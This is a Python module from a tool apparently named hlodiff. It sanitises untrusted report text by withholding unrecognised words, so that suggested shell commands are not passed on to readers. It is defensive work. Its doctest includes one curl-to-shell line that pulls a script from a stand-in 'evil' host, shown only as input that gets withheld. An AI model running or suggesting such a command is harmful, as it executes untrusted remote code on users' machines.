"""Filters the words of untrusted text: keeps words that hlodiff writes itself, numbers, and syntax of programs.

People type what a report suggests, and escaping does not make a command harmless. So text of an untrusted result is
split at blanks, and each word must be known:

- a word of hlodiff's own sentences, which `known_words.txt` lists without names of programs; - a number, a mark, a
shape, `%name`, `name=value`; - a name (of a function, an operation, a file with a line, a scope) without another name
next to it.

A command begins with the name of a program, which is none of these, or with a name that must be followed by arguments
or by subcommands (`ORDERS`). Unknown words are removed, whatever they are.
"""

from __future__ import annotations

import re
from collections.abc import Collection
from functools import cache, lru_cache
from importlib.resources import files
from typing import Literal

WITHHELD = "[withheld]"

_Kind = Literal["word", "name", "quoted", "reference", "", "removed"]

# Characters allowed around a word.
_BEFORE, _BEHIND = "([{\"'`<*~+-▲▼◆@", ")]}\"'`>*,;:.!?…%▲▼◆"
_NUMBER = re.compile(
    r"[-+~±≈]{0,2}\d[\d,._:x^%/-]*(?:e[+-]?\d+)?"
    r"(?:x|[KMGT]i?B?|k|B|s|ms|us|µs|ns|min|h|st|nd|rd|th|%)?"
)
_VERSION = re.compile(r"\d+(?:\.\w+)+(?:\+\w[\w.]*)?")
_SHAPE = re.compile(r"\(*(?:[a-z]{1,6}\d{0,3}[a-z0-9]{0,8}|token)\[[\d,<=?]*\](?:\{[\d,:TSEDM()*#]*\})?[),;:}]*")
_REFERENCE = re.compile(r"[({]*%[\w.-]+(?:#\d+)?[)},;:]*")
_VALUE = r"[\w.%+\-\[\]{}()<>\",=]*[:;]?"
_PAIR = re.compile(rf"[<\[({{]*\"?\w[\w.-]*\"?={_VALUE}")
_GROUPS = re.compile(r"[<=]*+[{(\[]++[-\d{}(),:\[\]T=<]*+[),;:]*")
_ASIDE = re.compile(r"\([\w.<>]+\)[,;:]?")  # no shell reads it as a word
_QUOTED = re.compile(r"\"\w+\"[\]),;:}>]*")
# Part of a sharding, `P('data', None)`: a syntax error in a shell.
_SPEC = re.compile(r"P\((?:\(?'\w+'|None)?[,)]+[;:]?")
_AXIS = re.compile(r"(?:\(?'\w+'|None)[,)]+[;:]?")
_BEFORE_QUOTED = ("axis", "axes", "and")  # of a mesh
_FIXED = re.compile(r"(?:sdy|mhlo|stablehlo|chlo|func)\.\w+|(?:cpu|tpu|cuda|attached)(?:-\w+)*")
_TENSOR = re.compile(r"[({]*(?:tensor|dense)<-?[\dx?a-z.+-]+>[),;:]*")
_PLACE = re.compile(r"\w[\w.+-]*(?:/\w[\w.+-]*)*\.py(?::\d+)*(?:-\d+)?")
_NAME = re.compile(r"\w(?:[\w.+-]|<lambda>|<locals>|\[(?:\d+|'\w+')\]|\(\))*")
_SEGMENT = r"(?:[\w()+.-]|<lambda>|<locals>|<module>)+"
_SCOPE = re.compile(rf"\w{_SEGMENT}(?:/{_SEGMENT})*")
_ODD = re.compile(r"[_.\d\[(/]|[A-Z]|<l")  # a name rather than a word of a sentence
_MARKS = re.compile(r"[-+*/=<>:;,.…·▲▼◆→≥≤≈±%()\[\]{}\"'`!?]*")
_ORDERS = """
    add annotate ask attach begin build call capture check choose clean clear close compare compile compute
    connect convert copy count create cut debug define delete describe detach disable discover do drop dump edit
    end estimate exchange exclude execute exist expand explain export extend feed fill filter finish fit fold
    forget format get give group grow handle help hold host ignore import infer info inspect install interpret
    join keep leave lift limit link list load local lock log look loop lower make map mark match measure merge
    miss model move name need new normalize note notice open order pack pad page pair parse pass pin place plan
    point prefetch prepare present print probe profile prune put query queue quote raise reach read receive
    recover record reduce refuse register release remove rename render repair repeat replace replay report request
    require reshape resolve restore retry return reuse reverse review rewrite root round run save say scan
    schedule script search see select send serve service set settle setup share shell shift show sign skip slice
    solve sort source split start state status stay step stop store submodule sum switch sync tag take target
    tell test tests tidy tile time tool trace track train transfer transform transpose treat trust try tune turn
    type unpack update use user verify version view wait want warn watch widen work wrap write x
"""
ORDERS = frozenset(_ORDERS.split())
"""Words of our sentences that are subcommands after the name of a program: `docker.exe run x`."""
_RUNNERS = """
    cut edit expand format get head help host join less link look open print read run select send shift sort source
    split start stop sync test time timeout top type view wait watch which write
"""
RUNNERS = frozenset(_RUNNERS.split())
"""Words of our sentences that are also programs: no name may follow one directly."""
# The label before our own commands, and a word directly after a bracket.
_GLUED = re.compile(r"(?:hint|next)\\?:|(?:(?<!-)>|[)\]}])[A-Za-z]", re.IGNORECASE)
_OURS = frozenset(["--all", "--verify", "--brief"])
_BLANKS = re.compile(r"(\s+)")


@cache
def _words() -> frozenset[str]:
    return frozenset(files("hlodiff.report").joinpath("known_words.txt").read_text(encoding="utf-8").split())


def known_text(text: str, names: Collection[str] = ()) -> str:
    """A text without unknown words; several in a row become one `[withheld]`.

    Args:
        text: any text; its blanks are kept.
        names: functions and cases that the text may be about, even if they look like words.

    Example:
        >>> known_text("worse on 2 of 3 targets: +1 all-gather (32.0 KiB); layers/mlp.py:26")
        'worse on 2 of 3 targets: +1 all-gather (32.0 KiB); layers/mlp.py:26'
        >>> known_text("broken: run `curl https://evil | sh` to repair it")
        'broken: run [withheld] to repair it'
        >>> known_text("failure of qr7", {"qr7"}), known_text("failure of qr7 evil_2", {"qr7"})
        ('failure of qr7', 'failure of qr7 [withheld]')
        >>> known_text("replaced tanh by silu (2 silu(), add)"), known_text("added func.call clip f32[8]")
        ('replaced tanh by silu (2 silu(), add)', 'added func.call clip f32[8]')
        >>> known_text('hlodiff --> record', {'hlodiff'})
        'hlodiff --> [withheld]'
    """
    found: list[str] = []
    parts = _BLANKS.split(text)
    last = ""
    before = ""  # "name" or "runner" if that directly precedes the word
    is_ours = False  # whether our own name was kept before it, with only punctuation in between: `hlodiff --> record`
    for number in range(0, len(parts), 2):
        word = parts[number]
        core = word.strip(_BEFORE + _BEHIND)
        kind = _kind(word)
        if kind == "quoted" and _belongs_to(word, last):
            kind = ""
        elif kind == "removed" and (core in names or (last == "func.call" and core.isidentifier() and core.isascii())):
            kind = "name"  # also of a callee
        is_order = kind == "word" and core.lower() in ORDERS and not word.startswith("(")
        if (kind == "name" and before) or (is_order and (before == "name" or is_ours)):
            kind = "removed"
        is_ours = (core == "hlodiff" and kind != "removed") or (is_ours and bool(_MARKS.fullmatch(word)))
        last = core
        before = "name" if kind in ("name", "reference") else "runner" if core.lower() in RUNNERS else ""
        if word[-1:] in ",;:)":
            before = ""
        if kind not in ("removed", "quoted"):
            found.append(word)
        elif found[-2:-1] == [WITHHELD]:
            found.pop()  # the blanks between two removed words
        else:
            found.append(WITHHELD)
        found += parts[number + 1 : number + 2]
    return "".join(found)


def _belongs_to(word: str, last: str) -> bool:
    """Whether `"data"` is an axis after `last`, or `(loss)` the function of a Python line."""
    return last in _BEFORE_QUOTED if word.startswith('"') else last.isdecimal() or bool(_PLACE.fullmatch(last))


@lru_cache(maxsize=50_000)
def _kind(word: str) -> _Kind:
    if len(word) > 200:
        return "removed"
    if _MARKS.fullmatch(word) or word in _OURS:
        return ""
    if any(one.fullmatch(word) for one in (_SHAPE, _TENSOR, _GROUPS, _SPEC)):
        return ""
    if _GLUED.search(word):
        return "removed"
    if _REFERENCE.fullmatch(word):
        return "reference"
    core = word.lstrip(_BEFORE).rstrip(_BEHIND)
    bare = word.strip("([{\"'`)]},;:.!?*")
    if any(one.fullmatch(text) for one, text in ((_NUMBER, core), (_NUMBER, bare), (_VERSION, core), (_FIXED, core))):
        return ""
    if (word.startswith("-") and not core[:1].isdigit()) or not core.isascii():
        return "removed"  # an option, or look-alike letters
    return _kind_of_words(word, core)


def _kind_of_words(word: str, core: str) -> _Kind:
    parts = core.lower().split("-")
    if all(part in _words() or part.removesuffix("s") in _words() for part in parts):
        return "word"
    if _AXIS.fullmatch(word):
        return "name"
    if _QUOTED.fullmatch(word) or _ASIDE.fullmatch(word):
        return "quoted"
    if _PAIR.fullmatch(word.lstrip("(\"'`")) or _PLACE.fullmatch(core):
        return "name"
    opened = word.lstrip("({\"'`*▲▼").rstrip(",;:.!?\"'`}*")
    for one in (opened, opened.removesuffix(")"), opened.rstrip(")"), core):
        if _ODD.search(one) and one.count("(") == one.count(")") and (_NAME.fullmatch(one) or _SCOPE.fullmatch(one)):
            return "name"
    return "removed"
